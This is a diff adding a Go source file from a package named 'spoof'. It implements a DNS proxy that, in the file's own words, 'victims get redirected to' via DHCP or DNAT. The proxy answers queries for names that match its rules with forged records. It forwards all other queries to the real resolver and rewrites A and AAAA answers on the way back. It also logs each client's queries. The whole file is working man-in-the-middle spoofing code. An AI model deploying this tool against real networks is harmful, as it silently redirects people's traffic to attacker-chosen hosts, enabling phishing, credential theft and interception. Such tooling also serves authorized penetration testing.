@@ -0,0 +1,298 @@
+package spoof
+
+import (
+	"errors"
+	"github.com/miekg/dns"
+	"log"
+	"net"
+	"strings"
+	"sync"
+	"time"
+)
+
+// max number of cached responses
+const DNSCacheSize = 4096
+
+// A resolving DNS server (UDP and TCP) that victims get redirected to, e.g.
+// via DHCP or by DNAT. Queries matching one of the Rules are answered
+// locally, all others are forwarded to Upstream and A/AAAA records owned by
+// a matching name are rewritten on the way back.
+//
+// Implements Spoof interface.
+type DNSProxy struct {
+	stats
+	// ip:port to listen on, a zero port is filled in by Start
+	Addr string
+	// ip:port of the real resolver
+	Upstream string
+	Rules    []*DNSRule
+	// TTL of forged answers
+	TTL uint32
+
+	cache  *dnsCache
+	client *dns.Client
+	udp    *dns.Server
+	tcp    *dns.Server
+}
+
+func NewDNSProxy(addr, upstream string, rules ...*DNSRule) (*DNSProxy, error) {
+	if upstream == "" {
+		return nil, errors.New("no upstream")
+	}
+	if _, _, err := net.SplitHostPort(upstream); err != nil {
+		upstream = net.JoinHostPort(upstream, "53")
+	}
+	if _, _, err := net.SplitHostPort(addr); err != nil {
+		return nil, err
+	}
+	return &DNSProxy{
+		Addr:     addr,
+		Upstream: upstream,
+		Rules:    rules,
+		TTL:      DNSDefaultTTL,
+		cache:    newDNSCache(DNSCacheSize),
+		client:   &dns.Client{Net: "udp", Timeout: 2 * time.Second},
+	}, nil
+}
+
+// start serving on Addr; UDP and TCP share the same port
+func (p *DNSProxy) Start() error {
+	pc, err := net.ListenPacket("udp", p.Addr)
+	if err != nil {
+		return err
+	}
+	p.Addr = pc.LocalAddr().String()
+	ln, err := net.Listen("tcp", p.Addr)
+	if err != nil {
+		pc.Close()
+		return err
+	}
+
+	servers := []*dns.Server{
+		{PacketConn: pc, Handler: p},
+		{Listener: ln, Handler: p},
+	}
+	// per server: nil once serving, or why it could not
+	started := make([]chan error, len(servers))
+	for i, srv := range servers {
+		c := make(chan error, 1)
+		started[i] = c
+		srv.NotifyStartedFunc = func() { c <- nil }
+		go func(srv *dns.Server) {
+			if err := srv.ActivateAndServe(); err != nil {
+				// only the first result counts
+				select {
+				case c <- err:
+				default:
+				}
+			}
+		}(srv)
+	}
+	var running []*dns.Server
+	for i, srv := range servers {
+		if e := <-started[i]; e != nil {
+			err = e
+			continue
+		}
+		running = append(running, srv)
+	}
+	if err != nil {
+		for _, srv := range running {
+			srv.Shutdown()
+		}
+		pc.Close()
+		ln.Close()
+		return err
+	}
+	p.udp, p.tcp = servers[0], servers[1]
+	log.Printf("[+] dns proxy: %s -> %s", p.Addr, p.Upstream)
+	return nil
+}
+
+// stop serving, if Start succeeded
+func (p *DNSProxy) Stop() {
+	for _, srv := range []*dns.Server{p.udp, p.tcp} {
+		if srv != nil {
+			srv.Shutdown()
+		}
+	}
+	p.udp, p.tcp = nil, nil
+}
+
+// Implements dns.Handler.
+func (p *DNSProxy) ServeDNS(w dns.ResponseWriter, r *dns.Msg) {
+	if len(r.Question) != 1 {
+		reply := new(dns.Msg)
+		reply.SetRcode(r, dns.RcodeFormatError)
+		w.WriteMsg(reply)
+		return
+	}
+	q := r.Question[0]
+	client, _, _ := net.SplitHostPort(w.RemoteAddr().String())
+	log.Printf("[+] dns proxy: %s %s %s", client, dns.TypeToString[q.Qtype], q.Name)
+
+	reply := dnsForge(p.Rules, p.TTL, r)
+	if reply == nil && !r.Response && r.Opcode == dns.OpcodeQuery &&
+		dnsMatch(p.Rules, q.Name) != nil {
+		// ours, but no record of that type: NODATA, the real ones would
+		// bypass the rule (e.g. AAAA for a name with only A records)
+		reply = new(dns.Msg)
+		reply.SetReply(r)
+		reply.Authoritative = true
+		reply.RecursionAvailable = true
+	}
+	if reply != nil {
+		p.hit(client)
+	}
+	if reply == nil {
+		var err error
+		if reply, err = p.resolve(r); err != nil {
+			log.Printf("dns proxy upstream err: %v", err)
+			reply = new(dns.Msg)
+			reply.SetRcode(r, dns.RcodeServerFailure)
+		}
+	} else if opt := r.IsEdns0(); opt != nil {
+		reply.SetEdns0(opt.UDPSize(), opt.Do())
+	}
+
+	if w.LocalAddr().Network() == "udp" {
+		size := dns.MinMsgSize
+		if opt := r.IsEdns0(); opt != nil && int(opt.UDPSize()) > size {
+			size = int(opt.UDPSize())
+		}
+		reply.Truncate(size)
+	}
+	p.count(w.WriteMsg(reply))
+}
+
+// Answer <r> from cache or Upstream, rewriting the response per Rules.
+func (p *DNSProxy) resolve(r *dns.Msg) (*dns.Msg, error) {
+	key := dnsCacheKey(r)
+	if reply := p.cache.Get(key); reply != nil {
+		reply.Id = r.Id
+		return reply, nil
+	}
+
+	query := r.Copy()
+	reply, _, err := p.client.Exchange(query, p.Upstream)
+	if err == nil && reply.Truncated {
+		tcp := dns.Client{Net: "tcp", Timeout: p.client.Timeout}
+		reply, _, err = tcp.Exchange(query, p.Upstream)
+	}
+	if err != nil {
+		return nil, err
+	}
+	p.rewrite(reply)
+	if reply.Rcode == dns.RcodeSuccess || reply.Rcode == dns.RcodeNameError {
+		p.cache.Put(key, reply)
+	}
+	return reply, nil
+}
+
+// Replace addresses owned by names matching a rule, e.g. after a CNAME.
+func (p *DNSProxy) rewrite(reply *dns.Msg) {
+	for i, rr := range reply.Answer {
+		rule := dnsMatch(p.Rules, rr.Header().Name)
+		if rule == nil {
+			continue
+		}
+		switch a := rr.(type) {
+		case *dns.A:
+			if len(rule.A) > 0 {
+				a.A = rule.A[i%len(rule.A)]
+				a.Hdr.Ttl = p.TTL
+			}
+		case *dns.AAAA:
+			if len(rule.AAAA) > 0 {
+				a.AAAA = rule.AAAA[i%len(rule.AAAA)]
+				a.Hdr.Ttl = p.TTL
+			}
+		}
+	}
+}
+
+type dnsCacheEntry struct {
+	msg     *dns.Msg
+	stored  time.Time
+	expires time.Time
+}
+
+// Response cache honoring the lowest TTL of each response.
+type dnsCache struct {
+	lock    sync.Mutex
+	size    int
+	entries map[string]dnsCacheEntry
+}
+
+func newDNSCache(size int) *dnsCache {
+	return &dnsCache{
+		size:    size,
+		entries: make(map[string]dnsCacheEntry, 64),
+	}
+}
+
+func dnsCacheKey(r *dns.Msg) string {
+	q := r.Question[0]
+	key := strings.ToLower(q.Name) + "/" + dns.TypeToString[q.Qtype] + "/" +
+		dns.ClassToString[q.Qclass]
+	if opt := r.IsEdns0(); opt != nil && opt.Do() {
+		key += "/do"
+	}
+	return key
+}
+
+// A copy of the cached response with TTLs counted down, nil if unknown or
+// expired.
+func (c *dnsCache) Get(key string) *dns.Msg {
+	c.lock.Lock()
+	defer c.lock.Unlock()
+	entry, exists := c.entries[key]
+	if !exists {
+		return nil
+	}
+	now := time.Now()
+	if now.After(entry.expires) {
+		delete(c.entries, key)
+		return nil
+	}
+	msg := entry.msg.Copy()
+	age := uint32(now.Sub(entry.stored) / time.Second)
+	for _, rrs := range [][]dns.RR{msg.Answer, msg.Ns} {
+		for _, rr := range rrs {
+			rr.Header().Ttl -= age
+		}
+	}
+	return msg
+}
+
+func (c *dnsCache) Put(key string, msg *dns.Msg) {
+	ttl := uint32(0)
+	first := true
+	for _, rrs := range [][]dns.RR{msg.Answer, msg.Ns} {
+		for _, rr := range rrs {
+			if first || rr.Header().Ttl < ttl {
+				ttl = rr.Header().Ttl
+				first = false
+			}
+		}
+	}
+	if ttl == 0 {
+		return
+	}
+
+	c.lock.Lock()
+	defer c.lock.Unlock()
+	if len(c.entries) >= c.size {
+		// no LRU, just make room
+		for k := range c.entries {
+			delete(c.entries, k)
+			break
+		}
+	}
+	now := time.Now()
+	c.entries[key] = dnsCacheEntry{
+		msg:     msg.Copy(),
+		stored:  now,
+		expires: now.Add(time.Duration(ttl) * time.Second),
+	}
+}